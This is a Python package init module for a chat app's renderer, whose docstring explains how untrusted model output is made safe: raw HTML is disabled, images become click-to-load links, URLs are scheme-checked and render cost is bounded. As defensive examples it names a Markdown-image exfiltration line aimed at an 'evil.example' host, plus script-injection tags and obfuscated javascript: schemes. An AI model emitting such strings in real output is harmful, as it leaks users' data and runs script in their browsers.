"""The one Markdown -> safe HTML pipeline for model output (live view and history).

Model output is untrusted (and so is anything a model copied from a web page), so:

1. Python-Markdown runs with raw HTML disabled: the ``html_block`` preprocessor and the
   inline ``html`` pattern are removed, so any tag the model writes (``<script>``,
   ``<img onerror>``, ``<iframe>`` ...) is serialised as escaped text.
2. Images are never emitted as ``<img>``: a tree processor turns every image into a
   click-to-load link ``<a class="remote-image" href="URL">🖼 alt (image: host)</a>``,
   so no request leaves the browser unless the user clicks (no exfiltration via
   ``![x](https://evil.example/?q=secret)``).
3. Code blocks are highlighted by Pygments through ``codehilite`` with CSS classes only
   (``css_class="highlight"``); the colours come from a static stylesheet built by
   :func:`pygments_css`.
4. The HTML is then cleaned by nh3 with an explicit allowlist of tags, attributes and
   classes; links may only be ``http``, ``https`` or ``mailto`` (the scheme check runs on
   the entity-decoded, control-character-stripped URL, so ``jav&#x09;ascript:``,
   ``JAVASCRIPT:`` and friends are dropped); relative URLs are dropped; every link gets
   ``rel="noopener noreferrer nofollow"`` and opens in the same tab.

:class:`IncrementalRenderer` renders a streaming answer block by block: each finished
Markdown block is rendered exactly once, and the unfinished tail is handed back as raw
text that the client must show as ``textContent`` (never as HTML).  See its docstring for
the block rule.

Every render is bounded in time and memory, whatever the model wrote (Python-Markdown
recurses on nesting and rescans on some inputs, so a few KB can otherwise cost seconds and a
few MB gigabytes): see ``chat.render.bounds``.  Past a bound the text is shown as escaped text
(``<pre>``), never dropped.

The package is framework-free (no Django imports): ``safe`` converts one bounded unit and
sanitises it, ``bounds`` caps what a unit may cost before Python-Markdown sees it, ``blocks``
renders whole texts and streams block by block.
"""

from __future__ import annotations

from chat.render.blocks import IncrementalRenderer, RenderUpdate, render_markdown
from chat.render.bounds import (
    MAX_BLOCK_CHARS,
    MAX_BLOCK_LINES,
    MAX_BRACKET_DEPTH,
    MAX_INDENT,
    MAX_NESTING,
    MAX_RENDER_CHARS,
    RENDER_BUDGET_S,
)
from chat.render.safe import ALLOWED_TAGS, CSS_CLASS, pygments_css, render_plain_escaped

__all__ = [
    "ALLOWED_TAGS",
    "CSS_CLASS",
    "MAX_BLOCK_CHARS",
    "MAX_BLOCK_LINES",
    "MAX_BRACKET_DEPTH",
    "MAX_INDENT",
    "MAX_NESTING",
    "MAX_RENDER_CHARS",
    "RENDER_BUDGET_S",
    "IncrementalRenderer",
    "RenderUpdate",
    "pygments_css",
    "render_markdown",
    "render_plain_escaped",
]
